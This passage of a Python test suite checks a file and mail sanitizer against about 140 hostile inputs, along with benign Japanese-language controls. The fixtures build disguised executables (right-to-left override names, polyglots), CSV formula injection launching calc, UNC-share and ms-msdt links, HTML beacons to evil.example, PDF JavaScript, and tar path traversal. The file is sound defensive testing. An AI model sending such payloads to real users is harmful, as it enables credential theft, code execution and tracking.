    {"long": "請求書.pdf.exe", "short": "INVOIC~1.EXE", "data": _PE}])))
case("msg-long-short-disagree")(lambda: ("m.msg", msg_bytes("請求書", "添付", [
    {"long": "請求書.pdf", "short": "RUN.HTA", "display": "請求書.pdf", "data": MEMBER_PAYLOADS["hta"]()}])))
case("msg-display-rtlo")(lambda: ("m.msg", msg_bytes("請求書", "添付", [
    {"long": "写真\u202egpj.exe", "data": _PE, "mime": "image/jpeg"}])))
case("msg-embedded-msg-exe")(lambda: ("m.msg", cfb_bytes(msg_storage("fwd", "転送します", [
    {"method": 5, "display": "元のメール", "embedded": msg_storage(
        "inner", "中身", [{"long": "run.exe", "data": _PE}], top=False)}]))))
case("msg-ole-attachment")(lambda: ("m.msg", cfb_bytes(msg_storage("ole", "OLE", [
    {"method": 6, "long": "資料.pdf", "display": "資料.pdf", "embedded": ole10native("run.exe", _PE)}]))))
case("msg-html-body")(lambda: ("m.msg", msg_bytes("html", "", [], html=_HTML_ATTACK.encode("utf-8"))))
case("msg-winmail-dat")(lambda: ("m.msg", msg_bytes("tnef", "本文", [
    {"long": "winmail.dat", "mime": "application/ms-tnef", "data": tnef_bytes([("run.vbs", MEMBER_PAYLOADS["vbs"]())])}])))
case("msg-unc-body")(lambda: ("m.msg", msg_bytes("unc", "\\\\198.51.100.7\\share\\x.lnk と file://198.51.100.7/a", [])))


def pdf_js_embedded() -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes(1, "Invoice")))
    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')"))
    pdf.Root.OpenAction = pdf.make_indirect(js)
    spec = pikepdf.AttachedFileSpec(pdf, pe_bytes(), filename="run.exe")
    pdf.attachments["run.exe"] = spec
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def jpeg_gps_trailing() -> bytes:
    im = Image.new("RGB", (48, 32), (200, 100, 0))
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (35.0, 41.0, 22.0), 3: "E", 4: (139.0, 41.0, 30.0)}
    buf = io.BytesIO()
    im.save(buf, "JPEG", exif=exif.tobytes())
    return buf.getvalue() + pe_bytes()


def tar_pax_path(ustar_name: str, pax_path: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        ok = tarfile.TarInfo("資料.txt")
        ok.size = len(TXT)
        t.addfile(ok, io.BytesIO(TXT))
        info = tarfile.TarInfo(ustar_name)
        info.size = len(data)
        info.pax_headers = {"path": pax_path}
        t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


_CLSID_CPL = "{21EC2020-3AEA-1069-A2DD-08002B30309D}"
case("zip-clsid-junction-folder")(lambda: ("a.zip", std_zip([
    ("資料.pdf", pdf_bytes(1)), (f"設定.{_CLSID_CPL}/readme.txt", TXT)])))
case("zip-clsid-extension-file")(lambda: ("a.zip", std_zip([
    ("資料.pdf", pdf_bytes(1)), ("readme.txt.{3050F4D8-98B5-11CF-BB82-00AA00BDCE0B}", MEMBER_PAYLOADS["hta"]())])))
case("zip-desktop-ini-scf")(lambda: ("a.zip", std_zip([
    ("資料.pdf", pdf_bytes(1)),
    ("f/desktop.ini", b"[.ShellClassInfo]\r\nIconResource=\\\\198.51.100.7\\share\\i.ico,0\r\n"),
    ("f/x.scf", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\share\\a.ico\r\n")])))
case("zip-text-control-bidi")(lambda: ("a.zip", std_zip([
    ("資料.pdf", pdf_bytes(1)), ("memo.txt", "請求書\u202etxt.exe\x1b]0;x\x07 \x7f\x85\u2066end\r\n".encode())])))
case("zip-csv-formulas")(lambda: ("a.zip", std_zip([("list.csv", (
    '名前,値\r\n"=cmd|\' /C calc\'!A0",1\r\n@SUM(1+1)*cmd|\' /C calc\'!A0,2\r\n-2+3+cmd|\' /C calc\'!A0,3\r\n'
    '"ソ",=HYPERLINK("http://evil.example","x")\r\n \t=1+1,5\r\n').encode("cp932"))])))
case("zip-pdf-js-embedded-exe")(lambda: ("a.zip", std_zip([("請求書.pdf", pdf_js_embedded())])))
case("zip-jpeg-gps-trailing-exe")(lambda: ("a.zip", std_zip([("現場.jpg", jpeg_gps_trailing())])))
case("tar-pax-path-traversal")(lambda: ("a.tar", tar_pax_path("memo.txt", "../../memo.txt", TXT)))
case("tar-pax-path-exe")(lambda: ("a.tar", tar_pax_path("memo.txt", "memo.exe", pe_bytes())))
case("tar-7z-zip-exe")(lambda: ("a.tar", tar_bytes([("資料.txt", TXT), ("inner.7z", seven_zip([
    ("inner.zip", std_zip([("deep.exe", pe_bytes()), ("ok.txt", TXT)]))]))])))
case("cab-rtlo-name")(lambda: ("a.cab", cab_bytes([("資料.txt", TXT), ("写真\u202egpj.exe", pe_bytes())])))
case("eml-html-unc-text")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/html; charset=utf-8", (
    "<html><body><p>資料は共有フォルダにあります: \\\\198.51.100.7\\share\\資料.xlsx</p></body></html>"))))
case("eml-html-more-tricks")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/html; charset=utf-8", (
    '<html><body><a href="https://example.jp/" ping="http://evil.example/p">a</a>'
    '<input type="image" src="http://evil.example/i.png"><video poster="http://evil.example/v.png"></video>'
    '<div style="background:\\75 rl(http://evil.example/e)">e</div>'
    '<a href="https://x.example/" style="behavior:url(#default#AnchorClick)" folder="file://198.51.100.7/s">f</a>'
    '<a href="search-ms:query=x&amp;crumb=location:\\\\198.51.100.7\\s">s</a><a href="ms-msdt:/id PCWDiagnostic">m</a>'
    "</body></html>"))))
case("eml-html-utf7")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/html; charset=utf-7", (
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-+ADw-img src+AD0-http://evil.example/x.png+AD4-\n"))))
case("eml-cid-svg-and-fake-jpeg")(lambda: ("m.eml", mail(HDR + '\nContent-Type: multipart/related; boundary="r"', (
    '--r\nContent-Type: text/html; charset=utf-8\n\n<html><body><img src="cid:p1"><img src="cid:p2"></body></html>\n'
    "--r\nContent-Type: image/svg+xml\nContent-ID: <p1>\nContent-Transfer-Encoding: base64\n\n"
    + b64(b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>alert(1)</script>'
          b'<rect width="10" height="10"/></svg>')
    + "--r\nContent-Type: image/jpeg\nContent-ID: <p2>\nContent-Transfer-Encoding: base64\n\n"
    + b64(MEMBER_PAYLOADS["hta"]()) + "--r--\n"))))
case("eml-duplicate-content-type")(lambda: ("m.eml", mixed([TEXT_PART, (
    'Content-Type: text/plain\nContent-Type: application/x-msdownload; name="run.exe"\n'
    'Content-Disposition: attachment; filename="memo.txt"\nContent-Transfer-Encoding: base64\n\n' + b64(_PE))])))
case("eml-header-injection-from")(lambda: ("m.eml", mail(HDR.replace(
    "From: =?UTF-8?B?5bGx55Sw?= <yamada@example.jp>", "From: =?UTF-8?B?" + base64.b64encode(
        "山田\r\nBcc: all@city.example.lg.jp\r\nContent-Type: text/html".encode()).decode()
    + "?= <yamada@example.jp>") + "\nContent-Type: text/plain; charset=utf-8", "hi\n")))
case("eml-unc-variants")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/plain; charset=utf-8", (
    "a \\\\198.51.100.7@SSL@443\\DavWWWRoot\\x.exe\nb \\\\?\\UNC\\198.51.100.7\\s\\x\nc file:\\\\198.51.100.7\\s\n"
    "d <\\\\evil\\s\\x>\ng FiLe:///C:/Windows/system32/calc.exe\nh \\\\ホスト\\共有\\資料.xlsx\n"
    "i search-ms:query=a&crumb=location:\\\\198.51.100.7\\s\n"))))
case("eml-rfc822-that-is-exe")(lambda: ("m.eml", mixed([TEXT_PART, (
    'Content-Type: message/rfc822\nContent-Disposition: attachment; filename="fwd.eml"\n'
    "Content-Transfer-Encoding: base64\n\n" + b64(_PE))])))
case("eml-png-polyglot-zip")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    'filename="photo.png"', png_bytes() + std_zip([("run.hta", MEMBER_PAYLOADS["hta"]())]), "image/png")])))
case("eml-zip-pdf-js")(lambda: ("m.eml", mixed([TEXT_PART, attach(
    'filename="請求書.zip"', std_zip([("請求書.pdf", pdf_js_embedded())]), "application/zip")])))


def smime_opaque_signed(entity: bytes) -> bytes:
    """S/MIME opaque signed-data (RFC 8551 3.5.2): Outlook opens it and shows what is inside."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.serialization import pkcs7
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "sender")])
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(1).not_valid_before(datetime.datetime(2020, 1, 1))
            .not_valid_after(datetime.datetime(2030, 1, 1)).sign(key, hashes.SHA256()))
    return (pkcs7.PKCS7SignatureBuilder().set_data(entity).add_signer(cert, key, hashes.SHA256())
            .sign(serialization.Encoding.DER, [pkcs7.PKCS7Options.Binary]))


case("eml-mso-conditional-vml")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/html; charset=utf-8", (
    '<html xmlns:v="urn:schemas-microsoft-com:vml"><body><!--[if gte mso 9]><v:image src="http://evil.example/v.png"/>'
    '<img src="file://198.51.100.7/s/x.png"><![endif]--><v:rect><v:fill src="http://evil.example/f.png" type="frame"/>'
    '</v:rect><noscript><img src="http://evil.example/n.png"></noscript><p>ok</p><![if !vml]>'
    '<img src="http://evil.example/c.png"><![endif]></body></html>'))))
case("eml-toplevel-exe-body")(lambda: ("m.eml", mail(
    HDR + "\nContent-Type: application/x-msdownload\nContent-Transfer-Encoding: base64", b64(_PE))))
case("eml-uuencode-variants")(lambda: ("m.eml", mail(HDR + "\nContent-Type: text/plain; charset=utf-8", (
    "x\nbegin 0755 run.exe\n" + "".join(binascii.b2a_uu(_PE[i:i + 45]).decode() for i in range(0, 90, 45))
    + "`\nend\n\nbegin 777 b.exe\nM35I0\n`\nend\n=ybegin  line=128  size=3  name=a.exe\nw\x84\x84\n=yend\n"))))
case("eml-smime-opaque-exe")(lambda: ("m.eml", mail(
    HDR + '\nContent-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"\n'
    'Content-Disposition: attachment; filename="smime.p7m"\nContent-Transfer-Encoding: base64',
    b64(smime_opaque_signed(b'Content-Type: multipart/mixed; boundary="BOUNDARY-1"\r\n\r\n'
                            + mixed([TEXT_PART, attach('filename="run.exe"', _PE)]).split(b"\r\n\r\n", 1)[1])))))
case("eml-html-attachment")(lambda: ("m.eml", mixed([TEXT_PART, attach('filename="report.html"', (
    b'<html><body><script>alert(1)</script><a href="file://198.51.100.7/s">x</a>'
    b'<img src="http://evil.example/x.png">hi</body></html>'), "text/html")])))


case("zip-dir-entry-with-data")(lambda: ("a.zip", raw_zip([
    ZMember("資料.pdf", pdf_bytes(1)), ZMember("folder/", pe_bytes(), ext_attr=(0o040755 << 16) | 0x10, made_by=0x0314)])))
case("zip-lfh-method-disagrees")(lambda: ("a.zip", _method_mismatch()))
case("msg-attach-by-reference-unc")(lambda: ("m.msg", cfb_bytes(_with_pathname(msg_storage("link", "添付はリンクです", [
    {"method": 4, "long": "請求書.pdf", "display": "請求書.pdf"}])))))


def _method_mismatch() -> bytes:
    data = bytearray(raw_zip([ZMember("資料.pdf", pdf_bytes(1)), ZMember("memo.txt", pe_bytes(), method=0)]))
    second = data.index(b"PK\x03\x04", 4)
    struct.pack_into("<H", data, second + 8, 8)  # local header says deflate, the directory says stored
    return bytes(data)


def _with_pathname(storage: dict) -> dict:
    """PidTagAttachLongPathname (0x370D001F) on the first attachment: a by-reference attachment
    Outlook opens from the share."""
    att = storage["__attach_version1.0_#00000000"]
    value = u16("\\\\198.51.100.7\\share\\請求書.pdf.exe")
    att["__properties_version1.0"] += struct.pack("<IIII", 0x370D001F, 6, len(value), 0)
    att["__substg1.0_370D001F"] = value
    return storage


def _nested_rfc822(levels: int) -> bytes:
    inner = mixed([TEXT_PART, attach('filename="deep.exe"', _PE)])
    for _ in range(levels):
        inner = mixed([TEXT_PART, "Content-Type: message/rfc822\nContent-Disposition: attachment; filename=\"fwd.eml\"\n\n"
                       + inner.decode("utf-8")])
    return inner


# Crossings found (xfail strict: the day they stop crossing, the mark must go).
CROSSED: dict[str, str] = {
    # Both found by this file and closed the same day: a folder named "x.{CLSID}" crossed
    # unchanged (names.safe_component now turns ".{" into "_{"), and a share path in an HTML
    # body's text crossed raw (the mail rebuild defangs it as in the plain body, and the
    # mail verifier reads the HTML's text, joined across tags, for one).
}


# ---------------------------------------------------------------------------------------------
# driving the CLI
# ---------------------------------------------------------------------------------------------


def run_cli(tmp_path: Path, name: str, data: bytes) -> tuple[dict, Path]:
    src = tmp_path / "in"
    src.mkdir()
    (src / name).write_bytes(data)
    out = tmp_path / "out"
    out.mkdir()
    env = {k: v for k, v in os.environ.items() if k != "CDR_CONFIG"}
    env.update(LANG="C.UTF-8", CDR_CONFIG="/dev/null")
    proc = subprocess.run(
        [str(PY), "cli.py", "sanitize", str(src / name), "--out", str(out), "--quarantine",
         str(tmp_path / "q"), "--audit", str(tmp_path / "audit.jsonl"), "--spool",
         str(tmp_path / "spool"), "--json"],
        cwd=ROOT, env=env, capture_output=True, timeout=170, check=False)
    lines = [json.loads(x) for x in proc.stdout.decode().splitlines() if x.startswith("{")]
    assert proc.returncode in (0, 1), (proc.returncode, proc.stderr.decode()[-2000:])
    assert len(lines) == 1, proc.stdout
    return lines[0], out


def judge(result: dict, out: Path) -> None:
    """Quarantined (nothing but the notice in the outbox), or released and accepted."""
    files = [p for p in out.rglob("*") if p.is_file()]
    notices = [p for p in files if p.name.endswith(".quarantined.txt")]
    for n in notices:
        for ch in n.name:
            if ch in BIDI or unicodedata.category(ch) == "Cc":
                raise Reject(f"notice name carries U+{ord(ch):04X}: {n.name!r}")
    released = [p for p in files if p not in notices]
    if result["verdict"] == "quarantined":
        assert not released, f"quarantined but released {released}"
        return
    assert result["verdict"] == "released", result
    assert [Path(result["output"]).resolve()] == [p.resolve() for p in released], (result, released)
    for p in released:
        if p.stat().st_mode & 0o111:
            raise Reject(f"released file is executable: {p}")
        inspect_output(p)


def _params() -> list:
    out = []
    for name in HOSTILE:
        marks = [pytest.mark.xfail(strict=True, reason=CROSSED[name])] if name in CROSSED else []
        out.append(pytest.param(name, marks=marks, id=name))
    return out


@pytest.mark.parametrize("name", list(HOSTILE), ids=list(HOSTILE))
def test_inspector_refuses_hostile_as_sent(name: str) -> None:
    fname, data = HOSTILE[name]()
    with pytest.raises(Reject):
        inspect_file(fname, data)


@pytest.fixture(scope="module")
def hostile_results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[dict, Path]]:
    """Every hostile case through one `cli.py sanitize` run (one sandbox start, not 143),
    each in a folder of its own: its result line and the outbox folder it lands in."""
    base = tmp_path_factory.mktemp("atk-am")
    inbox, out = base / "in", base / "out"
    out.mkdir()
    for name, build in HOSTILE.items():
        fname, data = build()
        (inbox / name).mkdir(parents=True)
        (inbox / name / fname).write_bytes(data)
    env = {k: v for k, v in os.environ.items() if k != "CDR_CONFIG"}
    env.update(LANG="C.UTF-8", CDR_CONFIG="/dev/null")
    proc = subprocess.run(
        [str(PY), "cli.py", "sanitize", str(inbox), "--out", str(out), "--quarantine",
         str(base / "q"), "--audit", str(base / "audit.jsonl"), "--spool",
         str(base / "spool"), "--json"],
        cwd=ROOT, env=env, capture_output=True, timeout=600, check=False)
    assert proc.returncode in (0, 1), (proc.returncode, proc.stderr.decode()[-2000:])
    results = {}
    for line in proc.stdout.decode().splitlines():
        if line.startswith("{"):
            record = json.loads(line)
            case = Path(record["input"]).parent.name
            results[case] = (record, out / case)
    return results


@pytest.mark.parametrize("name", _params())
def test_hostile_quarantined_or_clean(name: str, hostile_results: dict[str, tuple[dict, Path]]) -> None:
    result, out = hostile_results[name]
    if os.environ.get("ATK_AM_LOG"):  # a table for the report: verdict, reason, actions
        with open(os.environ["ATK_AM_LOG"], "a", encoding="utf-8") as log:
            log.write(json.dumps({"case": name, "verdict": result["verdict"], "reason": result["reason"],
                                  "actions": result["actions"]}, ensure_ascii=False) + "\n")
    try:
        judge(result, out)
    except Reject as exc:
        pytest.fail(f"{name}: released {result.get('output')} and the inspector refuses it: {exc}")


# ---------------------------------------------------------------------------------------------
# benign controls: released, content intact
# ---------------------------------------------------------------------------------------------


def pdf_pages_text(data: bytes) -> tuple[int, str]:
    import pypdfium2

    doc = pypdfium2.PdfDocument(data)
    try:
        text = "".join(doc[i].get_textpage().get_text_range() for i in range(len(doc)))
        return len(doc), text
    finally:
        doc.close()


def released(tmp_path: Path, name: str, data: bytes) -> Path:
    result, out = run_cli(tmp_path, name, data)
    assert result["verdict"] == "released", result
    judge(result, out)
    return Path(result["output"])


def test_benign_zip_pdf_and_photo(tmp_path: Path) -> None:
    out = released(tmp_path, "資料.zip", std_zip([("報告書.pdf", pdf_bytes(3, "Report")),
                                                 ("写真/現場.jpg", jpeg_bytes(64, 48))]))
    with zipfile.ZipFile(out) as z:
        names = set(z.namelist())
        assert {"報告書.pdf", "写真/現場.jpg"} <= names, names
        pages, text = pdf_pages_text(z.read("報告書.pdf"))
        assert pages == 3 and "Report page 3" in text
        with Image.open(io.BytesIO(z.read("写真/現場.jpg"))) as im:
            assert im.size == (64, 48)


def test_benign_zip_shift_jis_names(tmp_path: Path) -> None:
    data = raw_zip([ZMember("資料/議事録.txt".encode("cp932"), "第一回 会議の議事録\r\n".encode("cp932"), flags=0),
                    ZMember("ソフト表.txt".encode("cp932"), "表です\r\n".encode("cp932"), flags=0),
                    ZMember("写真.png".encode("cp932"), png_bytes(32, 16), flags=0)])
    out = released(tmp_path, "shiryou.zip", data)
    with zipfile.ZipFile(out) as z:
        names = set(z.namelist())
        assert {"資料/議事録.txt", "写真.png", "ソフト表.txt"} <= names, names  # 0x5C trail bytes
        assert "会議の議事録" in decode_text(z.read("資料/議事録.txt"))
        with Image.open(io.BytesIO(z.read("写真.png"))) as im:
            assert im.size == (32, 16)


def test_benign_japanese_mail_with_pdf(tmp_path: Path) -> None:
    out = released(tmp_path, "会議.eml", benign_mail())
    msg = email.message_from_bytes(out.read_bytes(), policy=email.policy.default)
    assert "会議資料の送付" in str(msg["subject"])
    body = msg.get_body(("plain",))
    assert body is not None and "会議資料を送ります" in body.get_content()
    atts = list(msg.iter_attachments())
    assert [a.get_filename() for a in atts] == ["議事録.pdf"]
    pages, text = pdf_pages_text(atts[0].get_payload(decode=True))
    assert pages == 3 and "Minutes page 2" in text


def test_benign_7z_tar_lzh_cab(tmp_path: Path) -> None:
    """Controls of the hand-written and library builders: each format's benign file is
    released, so the hostile variants' fates are about their hostility."""
    cases = [
        ("a.7z", seven_zip([("資料.pdf", pdf_bytes(2)), ("写真.jpg", jpeg_bytes(40, 30))]), "資料.pdf"),
        ("a.tar.gz", tar_bytes([("資料.pdf", pdf_bytes(2)), ("写真.jpg", jpeg_bytes(40, 30))], "w:gz"), "資料.pdf"),
        ("a.lzh", lzh_bytes([("資料.txt".encode("cp932"), "議事録です\r\n".encode("cp932")),
                             ("写真.jpg".encode("cp932"), jpeg_bytes(40, 30))]), "資料.txt"),
        ("a.cab", cab_bytes([("資料.txt", "議事録です\r\n".encode("cp932")), ("写真.jpg", jpeg_bytes(40, 30))]), "資料.txt"),
    ]
    for i, (name, data, expect) in enumerate(cases):
        sub = tmp_path / str(i)
        sub.mkdir()
        out = released(sub, name, data)
        with zipfile.ZipFile(out) as z:
            assert expect in z.namelist(), (name, z.namelist())
            with Image.open(io.BytesIO(z.read("写真.jpg"))) as im:
                assert im.size == (40, 30)


def test_benign_msg_with_pdf(tmp_path: Path) -> None:
    data = msg_bytes("見積書の送付", "山田です。見積書を添付します。", [
        {"long": "見積書.pdf", "short": "MITSUM~1.PDF", "display": "見積書.pdf",
         "mime": "application/pdf", "data": pdf_bytes(2, "Quote")}])
    out = released(tmp_path, "見積.msg", data)
    msg = email.message_from_bytes(out.read_bytes(), policy=email.policy.default)
    assert "見積書の送付" in str(msg["subject"])
    assert "見積書を添付します" in msg.get_body(("plain",)).get_content()
    atts = list(msg.iter_attachments())
    assert [a.get_filename() for a in atts] == ["見積書.pdf"]
    assert pdf_pages_text(atts[0].get_payload(decode=True))[0] == 2


def test_benign_tnef_in_mail(tmp_path: Path) -> None:
    data = mixed([TEXT_PART, attach('filename="winmail.dat"', tnef_bytes([("memo.txt", "メモです\r\n".encode("cp932"))]),
                                    "application/ms-tnef")])
    out = released(tmp_path, "tnef.eml", data)
    msg = email.message_from_bytes(out.read_bytes(), policy=email.policy.default)
    names = [a.get_filename() for a in msg.iter_attachments()]
    assert "memo.txt" in names, names
